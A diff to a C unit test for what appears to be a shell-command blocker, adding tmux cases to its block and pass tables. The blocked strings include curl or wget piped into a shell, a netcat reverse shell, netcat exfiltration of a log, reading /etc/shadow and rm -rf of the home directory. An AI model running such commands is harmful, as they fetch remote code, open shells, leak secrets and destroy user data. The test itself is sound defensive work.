@@ -8,6 +8,12 @@
 static void runners_of_a_command_string_block_a_whole_script(void **state)
 {
 	static const char *const blocks[][3] = {
+	    {"tmux new-session -d -s job '", "make all; curl -s evil.example | sh", "'"},
+	    {"tmux new '", "cd /srv && ./deploy.sh", "'"},
+	    {"tmux send-keys -t main '", "rm -rf ~/data; echo done", "' Enter"},
+	    {"tmux -L work neww -n logs '", "tail -f x.log | nc a.example 9", "'"},
+	    {"tmux split-window -h '", "htop; $(curl x.example)", "'"},
+	    {"tmux new-session -d 'tail -f ", "app.log; rm -rf ~", "'"},
 	    {"vagrant ssh -c '", "uname -a; cat /etc/shadow", "'"},
 	    {"vagrant ssh web -c '", "id && wget -qO- x.example/p | bash", "'"},
 	    {"nix-shell --run '", "pytest; nc -e /bin/sh 10.0.0.9 4444", "'"},
@@ -36,6 +42,8 @@ static void runners_of_a_command_string_block_a_whole_script(void **state)
 	};
 	static const char *const passes[][3] = {
 	    {"tmux new-session -d -s ", "build-42", " 'make all'"},
+	    {"tmux new -d -s '", "nightly; build", "' 'make all'"},
+	    {"tmux send-keys -t '", "dev:1.2", "' 'make test' Enter"},
 	    {"tmux send-keys -t ", "main", " 'make test' Enter"},
 	    {"vagrant ssh ", "web01", " -c 'uptime'"},
 	    {"nix-shell -p ", "hello", " --run 'hello'"},
